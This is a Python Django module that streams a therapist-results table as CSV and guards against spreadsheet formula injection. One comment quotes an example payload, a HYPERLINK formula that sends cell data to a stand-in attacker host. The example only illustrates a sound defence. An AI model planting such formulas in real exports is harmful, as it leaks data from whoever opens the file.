"""
Stream a drill-down table as CSV.

django-tables2's TableExport builds the whole file in memory through every cell's
render machinery: 29 s for the 96,000 therapists failing one check at a million
therapists. This writes the same columns, headers and cell values straight from a
values() query, in chunks, as the response goes out.
"""

import csv
from datetime import datetime

from django.http import StreamingHttpResponse

from consistency import catalogue


class _Echo:
    """A file that hands back what is written to it, for csv.writer in a stream."""

    def write(self, value):
        return value


# A spreadsheet takes a cell beginning with one of these for a formula: a bio such as
# =HYPERLINK("http://evil.example/?"&A2,"Click") would run when the file is opened.
# OWASP, "CSV Injection": prefix such a cell with a single quote, so it shows as text.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(text):
    """Return CSV cell text a spreadsheet shows as text, never evaluates as a formula."""
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def cell_text(value):
    """Return a platform value as CSV text: NULL empty, lists joined with "; ", times in ISO 8601, formulas neutralised."""
    if value is None:
        return ""
    if isinstance(value, list):
        return neutralise("; ".join(str(item) for item in value))
    if isinstance(value, datetime):
        return value.isoformat()
    if isinstance(value, str):
        return neutralise(value)
    return value


def _problems_text(row, shown_problem):
    return "; ".join(catalogue.failing(row, but=shown_problem))


def stream_results_csv(table, filename):
    """Return a streaming CSV response of every row of a TherapistResultTable, in its order."""
    columns = [c for c in table.columns if c.name != "actions"]
    fields = {c.name: str(c.accessor) for c in columns if c.name != "problems"}
    flags = catalogue.FLAGS
    rows = table.data.data.values(*set(fields.values()) | set(flags)).iterator(chunk_size=2000)

    def lines():
        writer = csv.writer(_Echo())
        yield writer.writerow([neutralise(str(c.header)) for c in columns])
        for row in rows:
            yield writer.writerow(
                [
                    _problems_text(row, table.problem) if c.name == "problems" else cell_text(row[fields[c.name]])
                    for c in columns
                ]
            )

    response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
